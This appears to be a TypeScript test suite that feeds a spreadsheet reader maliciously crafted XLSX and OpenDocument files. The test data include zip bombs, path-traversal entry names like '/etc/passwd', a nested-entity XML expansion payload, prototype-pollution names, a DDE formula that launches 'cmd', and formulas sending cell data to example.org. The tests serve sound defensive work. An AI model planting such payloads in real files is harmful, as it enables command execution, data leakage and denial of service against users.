import { cellAt } from "../../../src/core/grid/grid";
import { FORMS } from "../../../src/forms";
import { readSheet } from "../../../src/reader";
import { FileError } from "../../../src/workbook/xlsx/file-error";
import { readWorkbookFile } from "../../../src/workbook/files/read-file";
import { SOON } from "../../support/fuzz";
import { stopwatch } from "../../support/stopwatch";
import { type Entry, type XlsxSketch, deflatedZeros, xlsxParts, zipOf } from "../../support/zip";

/** Files that somebody made to do harm, or a program by mistake: a grid or one problem, soon, and nothing else touched. */

const CELL = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>';
const PLAIN: XlsxSketch = { sheets: { 表1: CELL }, strings: ["字"] };

/** The texts of all cells, sheet by sheet; or the problem. */
function outcome(bytes: Uint8Array): unknown {
  const before = bytes.slice();
  const taken = stopwatch();
  try {
    const sheets = readWorkbookFile(bytes);
    for (const { sheet, grid } of sheets) readSheet(sheet, grid, FORMS);
    return sheets.map(({ sheet, grid }) => [sheet.name, ...grid.cells.flat().flatMap((cell) => cell?.text ?? [])]);
  } catch (error) {
    if (error instanceof FileError) return error.problem;
    throw error;
  } finally {
    expect(taken()).toBeLessThan(SOON);
    expect(Buffer.compare(bytes, before)).toBe(0);
  }
}

const xlsx = (sketch: Partial<XlsxSketch>): Uint8Array => zipOf(xlsxParts({ ...PLAIN, ...sketch }));
/** With one part in another's place. */
const replaced = (name: string, part: Partial<Entry>): Uint8Array =>
  zipOf(xlsxParts(PLAIN).map((entry) => (entry.name === name ? { ...entry, ...part } : entry)));
const further = (...entries: Entry[]): Uint8Array => xlsx({ further: entries });

const SHEET = "xl/worksheets/sheet1.xml";
const WHOLE = [["表1", "字"]];

describe("what a zip file says of itself", () => {
  test.each<[string, () => Uint8Array, unknown]>([
    ["nothing wrong", () => xlsx({}), WHOLE],
    [
      "a part that unpacks to more than it claims",
      () => replaced("xl/sharedStrings.xml", { content: "", packed: deflatedZeros(300), claimedSize: 100 }),
      "too-large",
    ],
    [
      "pictures that are larger than they claim are not unpacked",
      () => further({ name: "xl/media/image1.png", content: "", packed: deflatedZeros(300), claimedSize: 100 }),
      WHOLE,
    ],
    ["a part that is not what its checksum says", () => replaced(SHEET, { crc: 1 }), "damaged"],
    ["a part behind a password", () => replaced(SHEET, { encrypted: true }), "encrypted"],
    ["two parts of one name", () => further({ name: SHEET, content: "<worksheet/>" }), "damaged"],
    [
      "two parts of one name in other letters",
      () => further({ name: SHEET.toUpperCase(), content: "<worksheet/>" }),
      "damaged",
    ],
    [
      "absolute and climbing names",
      () => further({ name: "/etc/passwd", content: "x" }, { name: "../../../a.xml", content: "x" }),
      WHOLE,
    ],
    ["a file in itself", () => further({ name: "xl/embeddings/a.xlsx", content: xlsx({}) }), WHOLE],
    ["a sheet that is not there", () => zipOf(xlsxParts(PLAIN).filter(({ name }) => name !== SHEET)), "damaged"],
    [
      "no texts for the cells",
      () => zipOf(xlsxParts(PLAIN).filter(({ name }) => name !== "xl/sharedStrings.xml")),
      "damaged",
    ],
  ])("%s", (_what, make, expected) => expect(outcome(make())).toEqual(expected));

  test("thirty thousand parts", () => {
    const many = Array.from({ length: 30_000 }, (_, index) => ({
      name: `xl/a${index}.xml`,
      content: "",
      stored: true,
    }));
    expect(outcome(further(...many))).toBe("too-large");
  });
});

describe("what a worksheet holds", () => {
  const merges = (count: number) =>
    `<mergeCells>${Array.from({ length: count }, (_, i) => `<mergeCell ref="A${i + 1}:XFD1048576"/>`).join("")}</mergeCells>`;
  const deep = (count: number) => "<a>".repeat(count) + "</a>".repeat(count);

  test.each<[string, Partial<XlsxSketch>, unknown]>([
    ["a text that is not in the list", { sheets: { 表1: '<row r="1"><c r="A1" t="s"><v>7</v></c></row>' } }, "damaged"],
    [
      "the last cell that there is",
      { sheets: { 表1: '<row r="1048576"><c r="XFD1048576" t="s"><v>0</v></c></row>' } },
      WHOLE,
    ],
    ["merged areas over everything", { behind: merges(20_000) }, WHOLE],
    [
      "a hyperlink over every cell",
      { behind: '<hyperlinks><hyperlink ref="A1:XFD1048576" r:id="r1"/></hyperlinks>' },
      WHOLE,
    ],
    ["elements in elements in elements", { behind: deep(200_000) }, WHOLE],
    [
      "a sheet that is called like a prototype",
      { sheets: { __proto__x: CELL, constructor: CELL } },
      [
        ["__proto__x", "字"],
        ["constructor", "字"],
      ],
    ],
    [
      "names that are called like prototypes",
      {
        definedNames:
          '<definedNames><definedName name="__proto__">表1!$A$1</definedName><definedName name="toString">1</definedName></definedNames>',
      },
      WHOLE,
    ],
    ["a text that is called like a prototype", { strings: ["__proto__"] }, [["表1", "__proto__"]]],
    ["two sheets of one name", { sheets: { 表1: CELL, "&#34920;1": CELL } }, "damaged"],
  ])("%s", (_what, sketch, expected) => expect(outcome(xlsx(sketch))).toEqual(expected));

  test("a sheet called __proto__", () => {
    const parts = xlsxParts({ ...PLAIN, sheets: { 表1: CELL, 表2: CELL } });
    const bytes = zipOf(
      parts.map((part) => ({ ...part, content: String(part.content).replace('name="表2"', 'name="__proto__"') })),
    );
    expect(outcome(bytes)).toEqual([
      ["表1", "字"],
      ["__proto__", "字"],
    ]);
    expect(({} as Record<string, unknown>)["!data"]).toBeUndefined();
  });

  test("entities that hold entities that hold entities", () => {
    const lol = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "${"哈".repeat(100)}">${Array.from({ length: 20 }, (_, i) => `<!ENTITY b${i} "&a;&a;&a;">`).join("")}]><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&b19;</t></is></c></row></sheetData></worksheet>`;
    expect(outcome(replaced(SHEET, { content: lol }))).toEqual([["表1", "&b19;"]]);
  });

  test("a sheet whose cells do not end", () => {
    expect(outcome(replaced(SHEET, { content: `<worksheet><sheetData>${CELL}</worksheet>` }))).toBe("damaged");
  });

  test("formulas that call other programs and files are text, with the result that is stored", () => {
    const formulas = [
      "cmd|'/c calc'!A0",
      'HYPERLINK("http://example.org/"&amp;B1)',
      "[1]Sheet1!A1",
      'WEBSERVICE("http://example.org")',
    ];
    const rows = formulas.map((f, i) => `<row r="${i + 1}"><c r="A${i + 1}"><f>${f}</f><v>${i}</v></c></row>`);
    const [first] = readWorkbookFile(
      xlsx({
        sheets: { 表1: rows.join("") },
        further: [{ name: "xl/externalLinks/externalLink1.xml", content: "<externalLink/>" }],
      }),
    );
    expect(formulas.map((_, row) => first && cellAt(first.grid, row, 0)?.value)).toEqual([0, 1, 2, 3]);
    expect(first && cellAt(first.grid, 0, 0)?.formula).toBe("=cmd|'/c calc'!A0");
  });
});

describe("what an OpenDocument file holds", () => {
  const ods = (table: string): Uint8Array =>
    zipOf([
      { name: "mimetype", content: "application/vnd.oasis.opendocument.spreadsheet", stored: true },
      {
        name: "META-INF/manifest.xml",
        content:
          '<?xml version="1.0"?><manifest:manifest xmlns:manifest="m"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>',
      },
      {
        name: "content.xml",
        content: `<?xml version="1.0"?><office:document-content xmlns:office="o" xmlns:table="t" xmlns:text="x"><office:body><office:spreadsheet><table:table table:name="表1">${table}</table:table></office:spreadsheet></office:body></office:document-content>`,
      },
    ]);
  const text = '<table:table-cell office:value-type="string"><text:p>字</text:p></table:table-cell>';

  test.each<[string, string, unknown]>([
    ["one cell", `<table:table-row>${text}</table:table-row>`, WHOLE],
    [
      "blank rows to the end of the sheet",
      `<table:table-row>${text}</table:table-row><table:table-row table:number-rows-repeated="1048575"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>`,
      WHOLE,
    ],
    [
      "one cell two thousand million times",
      `<table:table-row>${text.replace(" ", ' table:number-columns-repeated="2000000000" ')}</table:table-row>`,
      "too-large",
    ],
    [
      "one row a million times",
      `<table:table-row table:number-rows-repeated="1048576">${text.repeat(10)}</table:table-row>`,
      "too-large",
    ],
    [
      "covered cells without end",
      `<table:table-row><table:covered-table-cell table:number-columns-repeated="2000000000"/></table:table-row>`,
      "too-large",
    ],
    [
      "a thousand million spaces",
      `<table:table-row>${text.replace("字", '<text:s text:c="1000000000"/>')}</table:table-row>`,
      "too-large",
    ],
    [
      "a cell below a merged area, two thousand million times",
      `<table:table-row>${text.replaceAll("table-cell", "covered-table-cell").replace(" ", ' table:number-columns-repeated="2000000000" ')}</table:table-row>`,
      "too-large",
    ],
    [
      "a row of such cells a million times",
      `<table:table-row table:number-rows-repeated="1048576">${text.replaceAll("table-cell", "covered-table-cell").repeat(10)}</table:table-row>`,
      "too-large",
    ],
    [
      "a drawing with four million attributes",
      `<table:table-row>${text.replace("<text:p>", `<draw:g ${'a="b" '.repeat(4_000_000)}></draw:g>$&`)}</table:table-row>`,
      WHOLE,
    ],
    [
      "words in drawings",
      `<table:table-row>${text.replace(
        "<text:p>",
        '<draw:custom-shape draw:z-index="0"><text:p>注</text:p><draw:enhanced-geometry/></draw:custom-shape>$&',
      )}${text.replace(
        "</text:p>",
        "$&<draw:g><draw:frame><draw:text-box><text:p>注</text:p></draw:text-box></draw:frame></draw:g>",
      )}</table:table-row>`,
      [["表1", "字", "字"]],
    ],
    [
      "drawings that lie across cells",
      `<table:table-row>${text.replace("<text:p>", "<draw:g>$&")}${text.replace("</text:p>", "$&</draw:g>")}</table:table-row>`,
      "damaged",
    ],
  ])("%s", (_what, table, expected) => expect(outcome(ods(table))).toEqual(expected));

  test.each(['float" office:value="x', 'float" office:value="1e999', 'date" office:date-value="x'])(
    "a value that is no number or day is the text that it shows: %s",
    (type) => {
      const [sheet] = readWorkbookFile(ods(`<table:table-row>${text.replace("string", type)}</table:table-row>`));
      expect(sheet && cellAt(sheet.grid, 0, 0)).toMatchObject({ text: "字", value: "字" });
    },
  );

  test("below a merged area, blank or not, is read with the area; so is a value that no paragraph shows", () => {
    const merged = 'table:number-columns-spanned="3" table:number-rows-spanned="1"';
    const [sheet] = readWorkbookFile(
      ods(`<table:table-row><table:table-cell ${merged}/><table:covered-table-cell/>
          ${text.replaceAll("table-cell", "covered-table-cell")}${text}</table:table-row>
        <table:table-row>${text.replace(" ", ` ${merged} `)}
          <table:covered-table-cell table:number-columns-repeated="2" office:value-type="float" office:value="5"/>${text}</table:table-row>
        <table:table-row><table:table-cell office:value-type="float" office:value="7"/>
          <table:table-cell office:value-type="string" office:string-value="词" table:note="a>b"/>
          <table:covered-table-cell ${merged} office:value-type="string"><text:p>字</text:p></table:covered-table-cell></table:table-row>`),
    );
    const rows = [0, 1, 2].map((row) => [0, 1, 2, 3].map((column) => sheet && cellAt(sheet.grid, row, column)?.value));
    expect(rows).toEqual([
      [undefined, undefined, "字", "字"],
      ["字", 5, 5, "字"],
      [7, "词", "字", undefined],
    ]);
    expect(sheet?.grid.merges).toEqual([0, 1].map((row) => ({ top: row, left: 0, bottom: row, right: 2 })));
  });

  test("another document", () => {
    const bytes = zipOf([
      { name: "mimetype", content: "application/vnd.oasis.opendocument.text", stored: true },
      {
        name: "META-INF/manifest.xml",
        content:
          '<manifest:manifest xmlns:manifest="m"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>',
      },
      { name: "content.xml", content: "<office:document-content/>" },
    ]);
    expect(outcome(bytes)).toBe("not-a-spreadsheet");
  });

  test("a password", () => {
    const bytes = zipOf([
      { name: "mimetype", content: "application/vnd.oasis.opendocument.spreadsheet", stored: true },
      {
        name: "META-INF/manifest.xml",
        content:
          '<manifest:manifest xmlns:manifest="m"><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>',
      },
      { name: "content.xml", content: new Uint8Array(64) },
    ]);
    expect(outcome(bytes)).toBe("encrypted");
  });
});
